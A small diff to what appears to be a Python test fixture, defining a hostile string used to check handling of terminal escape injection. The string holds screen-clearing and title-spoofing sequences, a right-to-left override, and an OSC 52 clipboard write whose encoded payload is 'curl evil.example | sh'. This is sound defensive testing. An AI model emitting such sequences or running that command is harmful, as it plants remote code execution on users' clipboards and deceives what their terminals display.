@@ -119,7 +119,7 @@ def test_an_agent_verifies_a_self_identified_contact(
 
 HOSTILE = (
     "Factura\x1b[2J\x1b[H rechazada\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 hoy"
-    "\x1b]0;título falso\x1b\\ \x9b31m\x1bPq#0;2;0;0;0\x1b\\ fin\rOK\x08\x00\u202eevil"
+    "\x1b]0;título falso\x1b\\ \x9b31m\x1bPq#0;2;0;0;0\x1b\\ fin\rOK\x08\x07\u202eevil"
 )
 
 
